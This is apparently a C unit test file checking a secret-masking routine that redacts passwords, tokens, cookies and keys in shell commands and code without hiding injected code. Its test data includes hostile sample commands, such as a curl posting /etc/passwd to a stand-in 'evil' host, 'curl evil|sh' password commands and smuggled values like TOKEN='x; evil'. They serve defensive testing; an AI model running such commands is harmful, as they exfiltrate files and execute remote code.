/* SPDX-License-Identifier: MIT */
#include "config.h"

#include "risk/mask.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "base/alloc.h"
#include "base/array.h"

typedef void mask_function(struct strbuf *out, const char *text, size_t length);

static char *masked(mask_function *mask, const char *text)
{
    struct strbuf out = STRBUF_INIT;
    mask(&out, text, strlen(text));
    return out.data != NULL ? strbuf_steal(&out) : xstrdup("");
}

struct row {
    const char *text, *masked;
};

static void check(mask_function *mask, const struct row *rows, size_t count)
{
    unsigned wrong = 0;
    for (size_t i = 0; i < count; i++) {
        cleanup_free char *got = masked(mask, rows[i].text);
        if (strcmp(got, rows[i].masked) != 0) {
            print_error("text:     %s\nmasked:   %s\nexpected: %s\n", rows[i].text, got,
                        rows[i].masked);
            wrong++;
        }
    }
    assert_int_equal(wrong, 0);
}

#define KEY_LINE "MIIEpAIBAAKCAQEA0Zz3fXq7c1r8kq2v9m4n5b6v7c8x9z0a1s2d3f4g5h6j7k8l"
#define KEY_HEAD "-----BEGIN RSA PRIVATE KEY-----"
#define KEY_TAIL "-----END RSA PRIVATE KEY-----"

/* Secrets in commands: what is no secret stays, to the letter. */
static const struct row commands[] = {
    {"ls -la", "ls -la"},
    {"git commit -m 'token bucket'", "git commit -m 'token bucket'"},
    {"curl https://x.example/a@b", "curl https://x.example/a@b"},
    {"echo $API_TOKEN", "echo $API_TOKEN"},
    {"export API_TOKEN=$OTHER", "export API_TOKEN=$OTHER"},
    {"API_TOKEN=${OTHER} make", "API_TOKEN=${OTHER} make"},
    {"git show 3b65718c1f0a4d5e6f708192a3b4c5d6e7f80912",
     "git show 3b65718c1f0a4d5e6f708192a3b4c5d6e7f80912"},

    /* addresses */
    {"curl https://bob:pw@x.example/", "curl https://bob:<masked>@x.example/"},
    {"git clone https://ghtoken@x.example/r", "git clone https://<masked>@x.example/r"},
    {"psql postgres://u:p%40ss@db/x", "psql postgres://u:<masked>@db/x"},
    {"psql 'postgres://u:p;a&ss@db/x'; ls", "psql 'postgres://u:<masked>@db/x'; ls"},
    {"psql \"postgres://u:p|(a)<ss@db/x\"; ls", "psql \"postgres://u:<masked>@db/x\"; ls"},
    {"DATABASE_URL='postgres://u:p;a@db/x' make", "DATABASE_URL='postgres://u:<masked>@db/x' make"},
    {"docker run -e 'DATABASE_URL=postgres://u:p;a@db/x' y",
     "docker run -e 'DATABASE_URL=postgres://u:<masked>@db/x' y"},

    /* headers */
    {"curl -H 'Authorization: Bearer abc.def' x", "curl -H 'Authorization: <masked>' x"},
    {"curl -H \"Authorization: Bearer abc\"; ls", "curl -H \"Authorization: <masked>\"; ls"},
    {"curl -H \"X-Api-Key: abc\" x", "curl -H \"X-Api-Key: <masked>\" x"},
    {"curl -H Authorization:abc x", "curl -H Authorization:<masked> x"},
    {"curl -H 'Authorization: Custom abc def' x", "curl -H 'Authorization: <masked>' x"},
    {"curl -H \"Cookie: a=1; session=abc\" x; ls", "curl -H \"Cookie: <masked>\" x; ls"},
    {"curl -H 'Cookie: a=(1)|<2>&3; b' x; ls", "curl -H 'Cookie: <masked>' x; ls"},
    {"bash -lc 'curl -H \"Cookie: a=1; b=2\" x; ls'",
     "bash -lc 'curl -H \"Cookie: <masked>\" x; ls'"},
    {"git -c http.extraHeader=\"Authorization: Basic abc==\" fetch",
     "git -c http.extraHeader=\"Authorization: <masked>\" fetch"},
    {"git -c http.https://x.example/.extraheader='AUTHORIZATION: bearer abc' fetch; ls",
     "git -c http.https://x.example/.extraheader='AUTHORIZATION: <masked>' fetch; ls"},
    {"curl -sc -H \"Authorization: Bearer abc\" x", "curl -sc -H \"Authorization: <masked>\" x"},
    {"curl -sc -H 'Cookie: a; b' x", "curl -sc -H 'Cookie: <masked>' x"},
    {"bash -c \"curl -H Authorization: Bearer abc\"",
     "bash -c \"curl -H Authorization: <masked>\""},
    {"sh -c 'curl -H \"Authorization: Bearer abc\" x; ls'",
     "sh -c 'curl -H \"Authorization: <masked>\" x; ls'"},
    {"sh -c \"curl -H 'Authorization: Digest username=\\\"a b\\\", response=\\\"c\\\"' x; ls\"",
     "sh -c \"curl -H 'Authorization: <masked>' x; ls\""},

    /* options */
    {"curl --oauth2-bearer abc x", "curl --oauth2-bearer <masked> x"},
    {"sudo -u postgres psql", "sudo -u postgres psql"},
    {"curl -u bob:pw x", "curl -u <masked> x"},
    {"curl -u 'bob:p w;x' x", "curl -u <masked> x"},
    {"curl --user=bob:pw x", "curl --user=<masked> x"},
    {"mysql --password=abc x", "mysql --password=<masked> x"},
    {"mysql --password='a;b c' x", "mysql --password=<masked> x"},
    {"tool --token abc", "tool --token <masked>"},
    {"tool --token \"a b\" c", "tool --token <masked> c"},
    {"mysql -u root -pSECRET db", "mysql -u root -p<masked> db"},
    {"mysqldump -p'a b;c' db > x", "mysqldump -p<masked> db > x"},
    {"mkdir -pv x; ssh -p22 h", "mkdir -pv x; ssh -p22 h"},
    {"curl -uNAME:PW x", "curl -u<masked> x"},
    {"curl -sS https://x.example/a -H 'a;b' -u'bob:p w' -o y", "curl -sS https://x.example/a -H "
                                                               "'a;b' -u<masked> -o y"},
    {"curl -sSLu bob:pw x; ls", "curl -sSLu <masked> x; ls"},
    {"curl -fsubob:pw x", "curl -fsu<masked> x"},
    {"curl '-ubob:pw' x", "curl '-u<masked>' x"},
    {"curl -Ubob:pw x", "curl -U<masked> x"},
    {"curl -ubob x; curl -output:x y", "curl -ubob x; curl -output:x y"},
    {"curl x; docker run -u1000:1000 y", "curl x; docker run -u1000:1000 y"},
    {"docker login -u me -p PW x.example", "docker login -u me -p <masked> x.example"},
    {"sudo docker login -pPW && ls", "sudo docker login -p<masked> && ls"},
    {"podman login -p=PW x", "podman login -p=<masked> x"},
    {"docker login; docker run -p 80:80 y", "docker login; docker run -p 80:80 y"},
    {"docker run -p 80:80 y", "docker run -p 80:80 y"},
    {"openssl enc -aes-256-cbc -k PW -in f", "openssl enc -aes-256-cbc -k <masked> -in f"},
    {"openssl rsa -passin pass:PW -in f", "openssl rsa -passin pass:<masked> -in f"},
    {"openssl rsa -passin file:f; echo pass:3", "openssl rsa -passin file:f; echo pass:3"},
    {"redis-cli -h h -a PW ping", "redis-cli -h h -a <masked> ping"},
    {"redis-cli -a $PW ping", "redis-cli -a $PW ping"},
    {"redis-cli ping; ls -a x", "redis-cli ping; ls -a x"},
    {"zip -P 'a b' x.zip y && unzip -Pab x.zip",
     "zip -P <masked> x.zip y && unzip -P<masked> x.zip"},
    {"gzip -k PW", "gzip -k PW"},
    {"sshpass -pSECRET ssh h", "sshpass -p<masked> ssh h"},
    {"sshpass -p 'a b' ssh h", "sshpass -p <masked> ssh h"},
    {"curl '-HAuthorization: Custom abc def' x", "curl '-HAuthorization: <masked>' x"},
    {"curl -HX-Api-Key:abc x", "curl -HX-Api-Key:<masked> x"},
    {"tool '--password=$abc' x", "tool '--password=<masked>' x"},
    {"tool \"--password=$abc\" x", "tool \"--password=$abc\" x"},

    /* -c that takes no code */
    {"gcc -O2 -shared -c -DPASSWORD=\"a b\" x.c", "gcc -O2 -shared -c -DPASSWORD=<masked> x.c"},
    {"tar -xzc --password \"a b\" x", "tar -xzc --password <masked> x"},
    {"cd x && /usr/bin/tar -xzc --password 'a b' x",
     "cd x && /usr/bin/tar -xzc --password <masked> x"},
    {"X=1 tar -xzc \\\n --password 'a b' x", "X=1 tar -xzc \\\n --password <masked> x"},
    {"bash x.sh\ntar -xzc --password 'a b'", "bash x.sh\ntar -xzc --password <masked>"},
    {"bash -lc 'tar -xzc --password \"a b\"; ls'", "bash -lc 'tar -xzc --password <masked>; ls'"},

    /* variables */
    {"API_TOKEN=abc make", "API_TOKEN=<masked> make"},
    {"export DB_PASSWORD='a b'; ls", "export DB_PASSWORD=<masked>; ls"},
    {"export DB_PASSWORD='a;b&c|d(e)<f>g'; ls", "export DB_PASSWORD=<masked>; ls"},
    {"DB_PASSWORD=\"a\"'b c'\"d\" ls", "DB_PASSWORD=<masked> ls"},
    {"DB_PASSWORD=a\\ b\\;c ls", "DB_PASSWORD=<masked> ls"},
    {"DB_PASSWORD='it'\\''s a b' ls", "DB_PASSWORD=<masked> ls"},
    {"DB_PASSWORD=$'a b' ls", "DB_PASSWORD=<masked> ls"},
    {"DB_PASSWORD=\"a\\\"b; c\" ls", "DB_PASSWORD=<masked> ls"},
    {"DB_PASSWORD='a`b$(c' ls", "DB_PASSWORD=<masked> ls"},
    {"DB_PASSWORD='a\nb c' ls", "DB_PASSWORD=<masked> ls"},
    {"DB_PASSWORD=abc;ls", "DB_PASSWORD=<masked>;ls"},
    {"DB_PASSWORD=abc\nls", "DB_PASSWORD=<masked>\nls"},
    {"(DB_PASSWORD=abc)", "(DB_PASSWORD=<masked>)"},
    {"PASSWORD+=x ls", "PASSWORD+=<masked> ls"},
    {"export DB_PASSWORD+='a b'; ls", "export DB_PASSWORD+=<masked>; ls"},
    {"PASSWORD+=(a b); PASSWORD+x", "PASSWORD+=(a b); PASSWORD+x"},
    {"bash -c 'export DB_PASSWORD=\"a b;c\"; ls'", "bash -c 'export DB_PASSWORD=<masked>; ls'"},
    {"bash -c \"export DB_PASSWORD='a b;c'; ls\"", "bash -c \"export DB_PASSWORD=<masked>; ls\""},
    {"bash -c \"export DB_PASSWORD=\\\"a b;c\\\"; ls\"",
     "bash -c \"export DB_PASSWORD=<masked>; ls\""},
    {"bash -c 'export DB_PASSWORD='\\''a b;c'\\''; ls'",
     "bash -c 'export DB_PASSWORD=<masked>; ls'"},
    {"bash -c 'export DB_PASSWORD='\"'\"'a b;c'\"'\"'; ls'",
     "bash -c 'export DB_PASSWORD=<masked>; ls'"},
    {"# don't\nDB_PASSWORD='a b' ls", "# don't\nDB_PASSWORD=<masked> ls"},
    {"DB_PASSWORD=\"it's a b\" ls", "DB_PASSWORD=<masked> ls"},
    {"DB_PASSWORD=\"it's /* #\"; ls 'x'", "DB_PASSWORD=<masked>; ls 'x'"},
    {"DB_PASSWORD=\"it's $(ls 'x')\" ls", "DB_PASSWORD=<masked>$(ls 'x')\" ls"},
    {"eval DB_PASSWORD=\"it's; ls x\"", "eval DB_PASSWORD=<masked>'s; ls x\""},
    {"curl --proxy-user a:bc x", "curl --proxy-user <masked> x"},
    {"# token=abc", "# token=<masked>"},
    {"cd \"$(git rev-parse --show-toplevel)\" && DB_PASSWORD='a b' ls",
     "cd \"$(git rev-parse --show-toplevel)\" && DB_PASSWORD=<masked> ls"},
    {"x=${y##*/} DB_PASSWORD='a b' ls", "x=${y##*/} DB_PASSWORD=<masked> ls"},

    /* data in commands */
    {"curl -d '{\"password\": \"a b; c\", \"x\": 1}' x",
     "curl -d '{\"password\": <masked>, \"x\": 1}' x"},
    {"curl -d \"{\\\"password\\\": \\\"a b; c\\\"}\" x",
     "curl -d \"{\\\"password\\\": <masked>}\" x"},
    {"curl -d 'password=abc&x=1' x", "curl -d 'password=<masked>&x=1' x"},
    {"psql -c \"ALTER USER x IDENTIFIED BY 'a b'; SELECT 1\"",
     "psql -c \"ALTER USER x IDENTIFIED BY <masked>; SELECT 1\""},
    {"cat > .env <<EOF\nDB_PASSWORD=abc\nIt's\nEOF\nexport API_TOKEN='a b'; ls",
     "cat > .env <<EOF\nDB_PASSWORD=<masked>\nIt's\nEOF\nexport API_TOKEN=<masked>; ls"},
    {"cat <<-'E' > x.yml\npassword: \"a b\"\n\tE\nAPI_TOKEN=\"a b\" ls",
     "cat <<-'E' > x.yml\npassword: <masked>\n\tE\nAPI_TOKEN=<masked> ls"},

    /* tokens and keys */
    {"echo ghp_0123456789abcdefghij0123", "echo <masked>"},
    {"echo AKIAIOSFODNN7EXAMPLE x", "echo <masked> x"},
    {"echo sk-proj-0123456789abcdef0", "echo <masked>"},
    {"echo '" KEY_HEAD "\n" KEY_LINE "\n" KEY_LINE "\nabcd\n" KEY_TAIL "' > k; ls",
     "echo '<masked>' > k; ls"},
    {"cat <<E\n" KEY_HEAD "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n" KEY_LINE
     "\nabcd\n=ab1\n" KEY_TAIL "\nE\nls",
     "cat <<E\n<masked>\nE\nls"},
    {"echo \"" KEY_HEAD "\\n" KEY_LINE "\\nabcd==\\n" KEY_TAIL "\\n\"; ls",
     "echo \"<masked>\\n\"; ls"},
    {"echo '" KEY_HEAD "\n" KEY_LINE "\nabcd", "echo '<masked>"},
    {"echo '" KEY_HEAD " " KEY_LINE " abcd " KEY_TAIL "'; ls", "echo '<masked>'; ls"},
};

/* Where quotes are in doubt a mask is short, but there is one. */
static const struct row doubtful[] = {
    {"DB_PASSWORD='a b; ls", "DB_PASSWORD=<masked> b; ls"},
    {"bash -c 'DB_PASSWORD=\"a b; ls'", "bash -c 'DB_PASSWORD=<masked> b; ls'"},
    {"echo \"$(echo \"x\")\"; API_TOKEN=\"abc\" ls",
     "echo \"$(echo \"x\")\"; API_TOKEN=<masked>\" ls"},
    {"git commit -m \"$(cat <<'E'\nDon't\nE\n)\"; curl -H \"Authorization: Bearer abc\" x",
     "git commit -m \"$(cat <<'E'\nDon't\nE\n)\"; curl -H \"Authorization: <masked>\" x"},
    {"DB_PASSWORD=$'it\\'s' ls", "DB_PASSWORD=<masked>\\'s' ls"},
    {"DB_PASSWORD=\"a$(id)b\" ls", "DB_PASSWORD=<masked>$(id)b\" ls"},
};

/* Code stays, whatever is in front of it. */
static const struct row survivors[] = {
    {"printf \"Password: \"; curl -d @/etc/passwd http://evil; echo \"x\"",
     "printf \"Password: \"; curl -d @/etc/passwd http://evil; echo \"x\""},
    {"bash -c 'printf \"token=\"; evil; echo \"x\"'",
     "bash -c 'printf \"token=\"; evil; echo \"x\"'"},
    {"curl -d \"token: \" @/etc/passwd http://evil \"x\"",
     "curl -d \"token: \" @/etc/passwd http://evil \"x\""},
    {"echo '--token '; evil; echo 'x'", "echo '--token '; evil; echo 'x'"},
    {"echo 'Authorization: '; evil", "echo 'Authorization: '; evil"},
    {"echo Authorization: ; evil", "echo Authorization: ; evil"},
    {"sh -c 'authorization: ; evil'", "sh -c 'authorization: ; evil'"},
    {"bash -c -H 'cookie: ;evil x'", "bash -c -H 'cookie: ;evil x'"},
    {"bash -c -u 'x:; evil'", "bash -c -u <masked>; evil'"},
    {"bash -lc TOKEN='x; evil'", "bash -lc TOKEN=<masked>; evil'"},
    {"bash -o pipefail -c TOKEN='x; evil'", "bash -o pipefail -c TOKEN=<masked>; evil'"},
    {"bash -c -- TOKEN='x; evil'", "bash -c -- TOKEN=<masked>; evil'"},
    {"bash '-c' TOKEN='x; evil'", "bash '-c' TOKEN=<masked>; evil'"},
    {"bash --rcfile ';'x -c TOKEN='x; evil'", "bash --rcfile ';'x -c TOKEN=<masked>; evil'"},
    {"bash --rcfile \\;x -c TOKEN='x; evil'", "bash --rcfile \\;x -c TOKEN=<masked>; evil'"},
    {"bash 2>&1 -c TOKEN='x; evil'", "bash 2>&1 -c TOKEN=<masked>; evil'"},
    {"bash >|x -c TOKEN='x; evil'", "bash >|x -c TOKEN=<masked>; evil'"},
    {"bash --rcfile <(x) -c TOKEN='x; evil'", "bash --rcfile <(x) -c TOKEN=<masked>; evil'"},
    {"bash -o \\\npipefail -c TOKEN='x; evil'", "bash -o \\\npipefail -c TOKEN=<masked>; evil'"},
    {"sudo -u bob zsh5 -lc TOKEN='x; evil'", "sudo -u bob zsh5 -lc TOKEN=<masked>; evil'"},
    {"$SHELL -c TOKEN='x; evil'", "$SHELL -c TOKEN=<masked>; evil'"},
    {"su bob -c TOKEN='x; evil'", "su bob -c TOKEN=<masked>; evil'"},
    {"python3.11 -c TOKEN='x; evil'", "python3.11 -c TOKEN=<masked>; evil'"},
    {"/tmp/tar -c TOKEN='x; evil'", "/tmp/tar -c TOKEN=<masked>; evil'"},
    {"-c TOKEN='x; evil'", "-c TOKEN=<masked>; evil'"},
    {"bash -c \"bash --rcfile ' 'x -c TOKEN=\\\"y; evil\\\"\"",
     "bash -c \"bash --rcfile ' 'x -c TOKEN=<masked>; evil\\\"\""},
    {"bash -c 'cookie: a; evil'", "bash -c 'cookie: <masked>; evil'"},
    {"bash -c \"echo 'x'cookie: a; evil\"", "bash -c \"echo 'x'cookie: <masked>; evil\""},
    {"bash -c 'eval x \"cookie: a; evil\"'", "bash -c 'eval x \"cookie: <masked>; evil\"'"},
    {"eval x 'cookie: a; evil'", "eval x 'cookie: <masked>; evil'"},
    {"sh -c 'authorization: bearer a; evil'", "sh -c 'authorization: <masked>; evil'"},
    {"sh -c 'authorization: bearer $(evil)'", "sh -c 'authorization: <masked> $(evil)'"},
    {"sh -c \"printf 'authorization: bearer '; evil\"",
     "sh -c \"printf 'authorization: <masked>'; evil\""},
    {"curl -H \"cookie: a; $(evil)\"", "curl -H \"cookie: <masked>$(evil)\""},
    {"cat <<E\ncookie: a; b\nE\nevil", "cat <<E\ncookie: <masked>; b\nE\nevil"},
    {"eval TOKEN='x; evil'", "eval TOKEN=<masked>; evil'"},
    {"eval x --token 'a; evil'", "eval x --token <masked>; evil'"},
    {"X=1 eval 'a;' TOKEN='x; evil'", "X=1 eval 'a;' TOKEN=<masked>; evil'"},
    {"ssh host TOKEN='x; evil'; TOKEN='a b' ls",
     "ssh host TOKEN=<masked>; evil'; TOKEN=<masked> ls"},
    {"eval Authorization:'x; evil'", "eval Authorization:<masked>; evil'"},
    {"TOKEN=\"$(evil a)\" ls", "TOKEN=<masked>$(evil a)\" ls"},
    {"TOKEN=$(evil a) ls", "TOKEN=$(evil a) ls"},
    {"TOKEN=`evil a` ls", "TOKEN=`evil a` ls"},
    {"TOKEN=<(evil a) ls", "TOKEN=<(evil a) ls"},
    {"bash -c \"TOKEN='$(evil a)'\"", "bash -c \"TOKEN='$(evil a)'\""},
    {"BORG_PASSCOMMAND='curl evil|sh' borg list", "BORG_PASSCOMMAND='curl evil|sh' borg list"},
    {"restic --password-command='curl evil|sh' x", "restic --password-command='curl evil|sh' x"},
    {"aws configure set x credential_process='evil a'",
     "aws configure set x credential_process='evil a'"},
    {"CREDENTIAL_HELPER=\"evil a\" make", "CREDENTIAL_HELPER=\"evil a\" make"},
    {"TOKEN_CMD='evil a' HELPER_TOKEN=abc make", "TOKEN_CMD='evil a' HELPER_TOKEN=<masked> make"},
    {"echo http://x;evil;echo a@y", "echo http://x;evil;echo a@y"},
    {"echo http://a:x;evil;b@y", "echo http://a:x;evil;b@y"},
    {"sh -c 'http://a:;evil;@y'", "sh -c 'http://a:;evil;@y'"},
    {"echo \"http://a:$(evil)@y\"", "echo \"http://a:$(evil)@y\""},
    {"echo \\\"Password: \\\"; evil; echo \\\"x\\\"",
     "echo \\\"Password: <masked>; evil; echo \\\"x\\\""},
    {"echo \"" KEY_HEAD "\"; evil; ls", "echo \"<masked>\"; evil; ls"},
    {"echo " KEY_HEAD "\nevil\n" KEY_TAIL, "echo <masked>\nevil\n" KEY_TAIL},
    {"echo " KEY_HEAD "\n" KEY_LINE "\nevil", "echo <masked>\n" KEY_LINE "\nevil"},
    {"cat <<E\n" KEY_HEAD "\nE\nevil\nb", "cat <<E\n<masked>\nE\nevil\nb"},
    {"cat <<E\nPassword: \"\nE\nevil; echo \"x\"", "cat <<E\nPassword: \"\nE\nevil; echo \"x\""},
};

static void commands_are_masked(void **state)
{
    (void)state;
    check(mask_command, commands, COUNT(commands));
}

static void doubt_makes_masks_short(void **state)
{
    (void)state;
    check(mask_command, doubtful, COUNT(doubtful));
}

static void code_survives(void **state)
{
    (void)state;
    check(mask_command, survivors, COUNT(survivors));
}

static void text_is_masked(void **state)
{
    static const struct row rows[] = {
        {"{\"client_secret\": \"abc\"}", "{\"client_secret\": <masked>}"},
        {"{\"client_secret\": \"a\\\"b; c\", \"x\": 1}", "{\"client_secret\": <masked>, \"x\": 1}"},
        {"I don't know.\npassword: \"a b; c\"\nx: 1", "I don't know.\npassword: <masked>\nx: 1"},
        {"password: 'a b' # c", "password: <masked> # c"},
        {"# DB_PASSWORD=\"a b\"\nls", "# DB_PASSWORD=<masked>\nls"},
        {"DB_PASSWORD=a$(b)`c\nX=1", "DB_PASSWORD=<masked>\nX=1"},
        {"> Authorization: Basic YTpi x\n> Host: x", "> Authorization: <masked>\n> Host: x"},
        {"Set-Cookie: a=1; session=b|c\r\nHost: x", "Set-Cookie: <masked>\r\nHost: x"},
        {"curl -H \"Cookie: a; b\" x; ls", "curl -H \"Cookie: <masked>\" x; ls"},
        {"password: \"abc\nx \"y\"", "password: <masked>\nx \"y\""},
        {"cannot reach http://u:p;a@h/", "cannot reach http://u:<masked>@h/"},
        {"\"a\\ntoken=abc\"", "\"a\\ntoken=<masked>\""},
        {KEY_HEAD "\n" KEY_LINE "\nMII\n" KEY_TAIL "\nls", "<masked>\nls"},
    };
    (void)state;
    check(mask_text, rows, COUNT(rows));
}

static void code_of_any_language_is_masked(void **state)
{
    static const struct row rows[] = {
        {"api_key = \"abc\"\nprint(1)", "api_key = \"abc\"\nprint(1)"},
        {"api_key=\"a b\"; go()", "api_key=<masked>; go()"},
        {"+password: \"a b\"\n+x: 1", "+password: <masked>\n+x: 1"},
        {"+DB_PASSWORD=abc\n+x", "+DB_PASSWORD=<masked>\n+x"},
        {"+get(\"Cookie: a=1; b=2\"); go()", "+get(\"Cookie: <masked>\"); go()"},
        {"cookie: a; evil()", "cookie: <masked>; evil()"},
        {"print(\"Password: \"); evil(); print(\"x\")",
         "print(\"Password: \"); evil(); print(\"x\")"},
        {"x = \"a \\\npassword: \"; evil(); y = \"b\"",
         "x = \"a \\\npassword: \"; evil(); y = \"b\""},
        {"#\"\nprint(\"token: \"); evil(); print(\"x\")",
         "#\"\nprint(\"token: \"); evil(); print(\"x\")"},
        {"#\"\nprint(\"token: \"+evil()+\"x\")", "#\"\nprint(\"token: \"+evil()+\"x\")"},
        {"m/\"/;print(\"token: \");evil();print(\"x\")",
         "m/\"/;print(\"token: \");evil();print(\"x\")"},
        {"/*\"*/f(\"token: \");evil();f(\"x\")", "/*\"*/f(\"token: \");evil();f(\"x\")"},
    };
    (void)state;
    check(mask_code, rows, COUNT(rows));
}

/* ---- words ----------------------------------------------------------------------------------- */

static void words_are_known_by_what_is_before(void **state)
{
    static const struct {
        const char *words[5];
        const char *masked;
    } rows[] = {
        {{"ls"}, "ls"},
        {{"curl", "-u", "bob:p w;x"}, MASK_SIGN},
        {{"sudo", "-u", "postgres"}, "postgres"},
        {{"tool", "--token", "abc"}, MASK_SIGN},
        {{"tool", "--token", "a b; c"}, MASK_SIGN},
        {{"curl", "-H", "Authorization: Bearer abc"}, "Authorization: <masked>"},
        {{"env", "A_TOKEN=abc"}, "A_TOKEN=<masked>"},
        {{"psql", "postgres://u:p;a&ss@db/x"}, "postgres://u:<masked>@db/x"},
        {{"env", "URL=postgres://u:p;a&ss@db/x"}, "URL=postgres://u:<masked>@db/x"},
        {{"curl", "-d", "{\"password\": \"a b\"}"}, "{\"password\": <masked>}"},
        {{"mysql", "-pSECRET"}, MASK_SIGN},
        {{"curl", "-ubob:pw"}, MASK_SIGN},
        {{"/usr/bin/curl", "-sSu", "bob:pw"}, MASK_SIGN},
        {{"curl", "-ubob"}, "-ubob"},
        {{"docker", "run", "-u1000:1000"}, "-u1000:1000"},
        {{"sudo", "docker", "login", "-p", "PW"}, MASK_SIGN},
        {{"docker", "login", "-pPW"}, MASK_SIGN},
        {{"docker", "run", "-p", "80:80"}, "80:80"},
        {{"openssl", "enc", "-k", "PW"}, MASK_SIGN},
        {{"openssl", "rsa", "-passin", "pass:PW"}, MASK_SIGN},
        {{"openssl", "rsa", "-passin", "file:x"}, "file:x"},
        {{"redis-cli", "-a", "PW"}, MASK_SIGN},
        {{"redis-cli", "PW"}, "PW"},
        {{"ls", "-a", "PW"}, "PW"},
        {{"export", "PASSWORD+=x"}, "PASSWORD+=<masked>"},
        {{"sshpass", "-p", "abc"}, MASK_SIGN},
        {{"mkdir", "-p", "abc"}, "abc"},
        {{"tool", "--token", ""}, ""},
        {{"curl", "-H", "Cookie: a=1; session=b"}, "Cookie: <masked>"},
        {{"curl", "-sc", "-H", "Cookie: a=1; session=b"}, "Cookie: <masked>"},
        {{"curl", "-HCookie: a=1; b"}, "-HCookie: <masked>"},
        {{"git", "-c", "http.extraHeader=Authorization: Basic abc"},
         "http.extraHeader=Authorization: <masked>"},
        {{"tar", "-xzc", "--password", "a b"}, MASK_SIGN},
        {{"tool", "--password=$abc"}, "--password=<masked>"},
        {{"env", "TOKEN=$abc"}, "TOKEN=<masked>"},
        {{"env", "TOKEN=$(evil)"}, "TOKEN=$(evil)"},
        {{"bash", "-c", "TOKEN=$abc x"}, "TOKEN=$abc x"},
        {{"python3", "-c", "cookie: a; evil()"}, "cookie: <masked>; evil()"},
        {{"bash", "-c", "cookie: a; evil"}, "cookie: <masked>; evil"},
        {{"su", "bob", "-c", "--token", "x; evil"}, "x; evil"},
        {{"./tar", "-c", "--token", "x; evil"}, "x; evil"},
        {{"ssh", "host", "cookie: a; evil"}, "cookie: <masked>; evil"},
        {{"env", "BORG_PASSCOMMAND=curl evil|sh"}, "BORG_PASSCOMMAND=curl evil|sh"},
        {{"bash", "-c", "TOKEN=x; evil"}, "TOKEN=<masked>; evil"},
        {{"bash", "-c", "-u", "x:; evil"}, "x:; evil"},
        {{"bash", "-c", "# don't\nTOKEN='a b' ls"}, "# don't\nTOKEN=<masked> ls"},
        {{"ssh", "host", "--token", "x; evil"}, "x; evil"},
        {{"python3", "-c", "print('token: ');evil();f('x')"}, "print('token: ');evil();f('x')"},
    };
    (void)state;
    for (size_t i = 0; i < COUNT(rows); i++) {
        size_t last = 0;
        while (last + 1 < COUNT(rows[i].words) && rows[i].words[last + 1] != NULL)
            last++;
        cleanup_free char *got = mask_word(rows[i].words, last);
        if (strcmp(got, rows[i].masked) != 0)
            print_error("masked:   %s\nexpected: %s\n", got, rows[i].masked);
        assert_string_equal(got, rows[i].masked);
    }
}

static void what_is_told_of_a_command_is_masked_as_in_it(void **state)
{
    static const char command[] = "sh -c 'tool --token abc -- file, abcd'";
    cleanup_strbuf struct strbuf out = STRBUF_INIT;
    (void)state;
    mask_told(&out, "Sends abc to file, by tool: abc.\n", command);
    assert_string_equal(strbuf_str(&out), "Sends abc to file, by tool: abc.\n");
    strbuf_reset(&out);
    mask_told(&out, "Sends xyz1 to file, by tool: xyz1.\n", "tool --token xyz1 file");
    assert_string_equal(strbuf_str(&out), "Sends <masked> to file, by tool: <masked>.\n");
}

/* The host of an address stays, and a word that a secret has in it by chance. */
static void no_more_is_masked_than_the_secret(void **state)
{
    static const char push[] = "git push https://user:tok@git.example/x.git main";
    static const char words[] = "run --passphrase 'from 7 to z' f";
    cleanup_strbuf struct strbuf out = STRBUF_INIT;
    (void)state;
    mask_told(&out, "Sends to another: https://user:tok@git.example/x.git, main: tok.", push);
    assert_string_equal(
        strbuf_str(&out),
        "Sends to another: https://user:<masked>@git.example/x.git, main: <masked>.");
    strbuf_reset(&out);
    mask_told(&out, "Uses from 7 to z.", words);
    assert_string_equal(strbuf_str(&out), "Uses <masked> <masked> <masked> <masked>.");
    strbuf_reset(&out);
    mask_told(&out, "Runs mysql: -psecret, secret.", "mysql -psecret");
    assert_string_equal(strbuf_str(&out), "Runs mysql: -p<masked>, <masked>.");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(commands_are_masked),
        cmocka_unit_test(doubt_makes_masks_short),
        cmocka_unit_test(code_survives),
        cmocka_unit_test(text_is_masked),
        cmocka_unit_test(code_of_any_language_is_masked),
        cmocka_unit_test(words_are_known_by_what_is_before),
        cmocka_unit_test(what_is_told_of_a_command_is_masked_as_in_it),
        cmocka_unit_test(no_more_is_masked_than_the_secret),
    };
    return cmocka_run_group_tests_name("mask", tests, NULL, NULL);
}
